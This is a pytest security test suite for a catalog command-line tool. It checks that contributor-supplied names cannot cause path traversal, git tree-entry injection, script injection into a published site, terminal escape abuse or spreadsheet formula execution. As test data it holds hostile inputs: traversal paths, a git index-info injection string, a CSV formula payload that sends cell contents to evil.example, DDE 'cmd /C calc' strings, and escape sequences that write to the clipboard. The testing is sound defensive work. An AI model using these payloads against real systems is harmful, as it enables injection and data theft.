"""Contributor strings are data: a name never becomes a path outside the catalog, a tree entry of its
choosing, a script in the published site, a terminal escape or a spreadsheet formula; and publishing
never touches the exchange's own branches."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from exchange_cli.cli import cli
from exchange_cli.specs import SpecKind
from tests.catalog_world import CatalogWorld
from tests.infra.chromium import chromium_dom
from tests.infra.gitrepo import example_boutique, example_gear, init_repo, run_git

PAYLOAD = 'document.title = "pwned by a contributor";\n'


def run(world: CatalogWorld, *args: str) -> Result:
    return CliRunner().invoke(cli, [*args, "--repo", str(world.repo.root)])


def hostile_boutique(world: CatalogWorld, stem: str, name: str) -> None:
    """A boutique stored under a safe file name whose free-text name is the attack (Boutiques allows any
    string there), merged by a maintainer who read the diff as one odd line."""
    image = "registry.example.org/acme/tool:1.0.0"
    world.repo.write(f"boutiques/acme/{stem}.json", example_boutique(
        name=name, **{"tool-version": "1.0.0", "container-image": {"type": "docker", "image": image}}))
    world.repo.commit(f"add {stem}")


def files_below(directory: Path) -> set[str]:
    return {path.relative_to(directory).as_posix() for path in directory.rglob("*") if path.is_file()}


def test_a_boutique_name_cannot_write_outside_the_site_or_over_its_index(one_gear_catalog: CatalogWorld, tmp_path: Path) -> None:
    """Attack 1: `../../../../X` wrote X.html outside SITE; `../../index` replaced the site's index page."""
    hostile_boutique(one_gear_catalog, "escape", "../../../../X")
    hostile_boutique(one_gear_catalog, "overwrite", "../../index")
    site = tmp_path / "out" / "site"
    before = files_below(tmp_path)
    result = run(one_gear_catalog, "index", "-o", str(tmp_path / "exchange.json"), "--html", str(site))
    assert result.exit_code == 0, result.output
    written = files_below(tmp_path) - before
    assert all(path.startswith("out/site/") or path == "exchange.json" for path in written), written
    assert not list(tmp_path.rglob("X.html"))
    index = (site / "index.html").read_text()
    assert '<ul id="entries">' in index and index.count('class="entry"') == 3, "the site's own index page"
    pages = sorted(p for p in files_below(site) if p.startswith("boutiques/"))
    assert len(pages) == 2 and all(re.fullmatch(r"boutiques/acme/[a-z0-9.-]+-[0-9a-f]{10}\.html", p) for p in pages)
    for page in pages:  # each page is linked from the index under its real path
        assert f'href="{page}"' in index


def test_a_catalog_file_never_follows_a_link_planted_in_the_output(one_gear_catalog: CatalogWorld, tmp_path: Path) -> None:
    site, elsewhere = tmp_path / "site", tmp_path / "elsewhere"
    (site / "gears").mkdir(parents=True)
    elsewhere.mkdir()
    (site / "gears" / "acme").symlink_to(elsewhere)
    result = run(one_gear_catalog, "index", "-o", str(tmp_path / "x.json"), "--html", str(site))
    assert result.exit_code == 2, result.output
    assert "symbolic link" in result.output and list(elsewhere.iterdir()) == []
    assert not (site / "index.html").exists(), "nothing is written unless every path is safe"


def test_a_name_cannot_add_tree_entries_to_the_published_catalog(one_gear_catalog: CatalogWorld, tmp_path: Path) -> None:
    """Attack 2: a name holding a newline and a tab went into `update-index --index-info` as is: it added
    tree entries of its choosing, and the published assets/catalog.js became the contributor's script."""
    (one_gear_catalog.repo.root / "docs").mkdir()
    (one_gear_catalog.repo.root / "docs" / "theme.js").write_text(PAYLOAD)
    payload = one_gear_catalog.repo.git("hash-object", "-w", "docs/theme.js")
    hostile_boutique(one_gear_catalog, "tool", f"tool\n100644 {payload}\tassets/catalog.js\n100644 {payload}\tz")
    remote = init_repo(tmp_path / "remote.git", bare=True)
    one_gear_catalog.repo.git("remote", "add", "origin", str(remote))
    one_gear_catalog.repo.git("push", "-q", "origin", "master")
    site = tmp_path / "site"
    result = run(one_gear_catalog, "index", "-o", str(tmp_path / "x.json"), "--html", str(site), "--publish-branch", "gh-pages")
    assert result.exit_code == 0, result.output

    published = set(run_git(remote, "ls-tree", "-r", "-z", "--name-only", "gh-pages").split("\0")) - {""}
    assert published == files_below(site), "the tree holds exactly the files the catalog wrote"
    script = run_git(remote, "show", "gh-pages:assets/catalog.js")
    assert "pwned" not in script and script == (site / "assets" / "catalog.js").read_text().strip()

    checkout = tmp_path / "published"
    run_git(tmp_path, "clone", "-q", "--branch", "gh-pages", str(remote), str(checkout))
    doms = {page: chromium_dom((checkout / page).as_uri(), tmp_path / "profile")
            for page in ["index.html", *(p for p in published if p.startswith("boutiques/"))]}
    for page, dom in doms.items():
        title = re.search(r"<title>(.*?)</title>", dom, re.DOTALL)[1]
        assert "pwned" not in title, (page, title)
    assert "2 of 2 shown" in doms["index.html"], "the catalog's own script ran"


@pytest.fixture
def pushed(one_gear_catalog: CatalogWorld, tmp_path: Path) -> Path:
    remote = init_repo(tmp_path / "remote.git", bare=True)
    one_gear_catalog.repo.git("remote", "add", "origin", str(remote))
    one_gear_catalog.repo.git("push", "-q", "origin", "master")
    return remote


def test_publishing_never_replaces_the_exchange_branch_from_a_detached_head(one_gear_catalog: CatalogWorld, pushed: Path,
                                                                           tmp_path: Path) -> None:
    """Attack 8: on a detached HEAD the guard compared branch names only; master's whole tree was replaced
    by the site and pushed."""
    tip = run_git(pushed, "rev-parse", "master")
    one_gear_catalog.repo.git("checkout", "-q", "--detach")
    for args in (["index", "--html", str(tmp_path / "site"), "--publish-branch", "master"],
                 ["index", "--format", "legacy", "-o", str(tmp_path / "x.json"), "--publish-branch", "master"]):
        result = run(one_gear_catalog, *args)
        assert result.exit_code == 2, result.output
        assert "master" in result.output and "default branch" in result.output
    assert run_git(pushed, "rev-parse", "master") == tip


def test_publishing_refuses_any_branch_holding_the_exchange(one_gear_catalog: CatalogWorld, pushed: Path, tmp_path: Path) -> None:
    """A branch other than the default one that holds gears, manifests or a sentinel (a release branch,
    a fork's master), or that shares history with the checked-out commit."""
    one_gear_catalog.repo.git("push", "-q", "origin", "master:release")
    one_gear_catalog.repo.git("checkout", "-q", "--detach")
    result = run(one_gear_catalog, "index", "--html", str(tmp_path / "site"), "--publish-branch", "release")
    assert result.exit_code == 2, result.output
    assert "release" in result.output and "history of the checked-out commit" in result.output

    orphan = tmp_path / "orphan"
    run_git(tmp_path, "clone", "-q", str(pushed), str(orphan))
    run_git(orphan, "checkout", "-q", "--orphan", "mirror")
    run_git(orphan, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "-m", "a copy of the specs")
    run_git(orphan, "push", "-q", "origin", "mirror")
    result = run(one_gear_catalog, "index", "--html", str(tmp_path / "site"), "--publish-branch", "mirror")
    assert result.exit_code == 2, result.output
    assert "holds" in result.output and "gears/…/*.json" in result.output
    assert run_git(pushed, "ls-tree", "--name-only", "mirror").split() == ["gears", "manifests"]


def test_process_refuses_to_publish_its_index_to_the_default_branch(one_gear_catalog: CatalogWorld, pushed: Path,
                                                                    tmp_path: Path) -> None:
    one_gear_catalog.repo.git("checkout", "-q", "-b", "work")  # not the checked-out branch: the remote's default one
    result = CliRunner().invoke(cli, ["process", "--repo", str(one_gear_catalog.repo.root), "--bucket",
                                      (tmp_path / "bucket").as_uri(), "--publish-index", "master", "--dry-run"])
    assert result.exit_code == 2, result.output
    assert "--publish-index master is the default branch of origin" in result.output


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(one_gear_catalog: CatalogWorld, tmp_path: Path) -> None:
    """Attack 10, the spreadsheet half: a label `=HYPERLINK(...)` went into `inventory --format csv` as is."""
    hostile = {"label": '=HYPERLINK("http://evil.example/?"&A1,"click")', "author": "+1+cmd|' /C calc'!A0",
               "maintainer": "@SUM(1+1)*cmd|' /C calc'!A0", "license": "-2+3", "source": "\tx", "url": "\rx"}
    one_gear_catalog.repo.write("gears/acme/sheet.json", example_gear(name="sheet", **hostile))
    one_gear_catalog.repo.commit("a gear with formulas")
    result = run(one_gear_catalog, "inventory", "--format", "csv")
    assert result.exit_code == 0, result.output
    (row,) = [row for row in csv.DictReader(io.StringIO(result.stdout)) if row["name"] == "sheet"]
    for column, value in hostile.items():
        assert row[column] == "'" + value, (column, row[column])
    (plain,) = [row for row in csv.DictReader(io.StringIO(result.stdout)) if row["name"] == "hello"]
    assert plain["label"] == "Hello gear", "ordinary cells are left as they are"


# What a terminal would obey: C0 but newline, DEL, C1, and the bidi and invisible format characters.
TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
ATTACK = "\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b2J\u202eevil\n\tinjected line"


def test_contributor_strings_never_reach_the_terminal_as_controls(one_gear_catalog: CatalogWorld, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack 10, the terminal half: names holding escape sequences (window title, clipboard write, clear
    screen, a one-byte C1 CSI, a bidi override, a newline forging a line) passed validate and `list`
    printed them raw."""
    one_gear_catalog.publish("acme", "tool" + ATTACK, "2.0" + ATTACK, SpecKind.BOUTIQUE, stem="tool", description=ATTACK,
                  author=ATTACK)
    image = "registry.example.org/acme/tool:1.0.0"
    one_gear_catalog.repo.write("boutiques/acme/tool.json", example_boutique(
        name="tool" + ATTACK, description=ATTACK,
        **{"tool-version": "3.0" + ATTACK, "container-image": {"type": "docker", "image": image}}))
    one_gear_catalog.repo.write("gears/acme/hello.json", example_gear(name="hello", version="1.0.0", label=ATTACK,
                                                           author=ATTACK))
    one_gear_catalog.repo.write(f"gears/acme/x{ATTACK.replace('/', '')}.json", example_gear(name="x"))
    one_gear_catalog.repo.commit("hostile strings")
    monkeypatch.setenv("COLUMNS", "300")
    outputs = {}
    for args in (["list"], ["show", "acme/tool"], ["show", "acme/hello"], ["validate", "--all", "--format", "text"],
                 ["validate", "--all", "--format", "rich"], ["inventory"], ["inventory", "--format", "text"],
                 ["history"], ["fetch", "acme/tool", "-o", str(tmp_path / "x.tgz")]):
        result = CliRunner().invoke(cli, [*args, "--repo", str(one_gear_catalog.repo.root)])
        outputs[" ".join(args)] = result.output
        assert result.exit_code == (1 if args[0] == "validate" else 0), (args, result.output)
        assert not TERMINAL_CONTROLS.search(result.output), (args, result.output)
    assert "\\x1b]0;pwned\\x07" in outputs["list"] and "\\u202e" in outputs["list"]
    assert "\\x0a\\x09injected line" in outputs["list"], "the newline is shown, it starts no line"
    assert not any(line.startswith(("\tinjected", "injected"))
                   for output in outputs.values() for line in output.splitlines())


def test_publishing_never_moves_a_branch_off_a_local_commit(one_gear_catalog: CatalogWorld, pushed: Path, tmp_path: Path) -> None:
    """The local publish branch held an unpushed commit of someone's: it was moved to the remote's tip and
    the commit was on no branch any more."""
    assert run(one_gear_catalog, "index", "--html", str(tmp_path / "site"), "--publish-branch", "gh-pages").exit_code == 0
    remote_tip = run_git(pushed, "rev-parse", "gh-pages")
    one_gear_catalog.repo.git("update-ref", "refs/heads/gh-pages", one_gear_catalog.repo.git(
        "commit-tree", f"{remote_tip}^{{tree}}", "-p", remote_tip, "-m", "a maintainer's own change"))
    local = one_gear_catalog.repo.git("rev-parse", "gh-pages")
    one_gear_catalog.spec("acme", "hello", "1.1.0")
    one_gear_catalog.repo.commit("a new version")
    result = run(one_gear_catalog, "index", "--html", str(tmp_path / "site2"), "--publish-branch", "gh-pages")
    assert result.exit_code == 2, result.output
    assert f"the local branch gh-pages holds commit {local[:12]} (\"a maintainer's own change\")" in result.output
    assert one_gear_catalog.repo.git("rev-parse", "gh-pages") == local and run_git(pushed, "rev-parse", "gh-pages") == remote_tip


def test_an_earlier_publication_that_never_reached_the_remote_is_superseded(one_gear_catalog: CatalogWorld, pushed: Path,
                                                                           tmp_path: Path) -> None:
    hook = pushed / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'gh-pages is frozen today' >&2\nexit 1\n")
    hook.chmod(0o755)
    failed = run(one_gear_catalog, "index", "--html", str(tmp_path / "site"), "--publish-branch", "gh-pages")
    assert failed.exit_code == 2, failed.output
    (line,) = [line for line in failed.output.splitlines() if line.startswith("error: ")]
    assert "gh-pages is frozen today" in line and "stderr: '" not in line, line
    hook.unlink()
    again = run(one_gear_catalog, "index", "--html", str(tmp_path / "site"), "--publish-branch", "gh-pages")
    assert again.exit_code == 0, again.output
    assert run_git(pushed, "rev-parse", "gh-pages") == one_gear_catalog.repo.git("rev-parse", "gh-pages")
